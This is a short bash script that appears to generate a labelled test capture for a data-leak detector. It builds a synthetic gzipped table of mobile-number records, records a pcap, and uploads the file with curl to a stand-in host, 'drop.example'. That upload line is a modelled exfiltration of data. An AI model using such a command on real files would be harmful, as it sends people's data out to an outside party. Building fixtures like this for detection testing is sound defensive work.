#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# make.sh - record a form upload of a gzip'd tab-separated file.
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=/dev/null
. "$here/../make/lab.sh"

table tsv mobile 250 | gzip -n >"$LAB/contracts.tsv.gz"
lab_up
lab_nginx out_
lab_record "$here/capture.pcap"
in_ curl -sS --resolve drop.example:80:203.0.113.9 \
    -F "file=@$LAB/contracts.tsv.gz;type=application/gzip" \
    http://drop.example/upload
lab_stop
table truth mobile 250 channel=http party=drop.example \
    >"$here/truth.json"
